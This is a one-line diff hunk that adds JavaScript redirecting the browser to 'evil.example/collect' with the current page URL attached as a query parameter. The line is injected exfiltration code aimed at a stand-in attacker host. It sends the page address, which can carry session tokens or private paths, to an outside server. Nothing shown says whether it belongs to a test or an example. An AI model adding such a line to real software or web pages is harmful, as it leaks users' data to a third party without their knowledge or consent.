@@ -1,0 +1,1 @@
+location.href = "https://evil.example/collect?u=" + location;
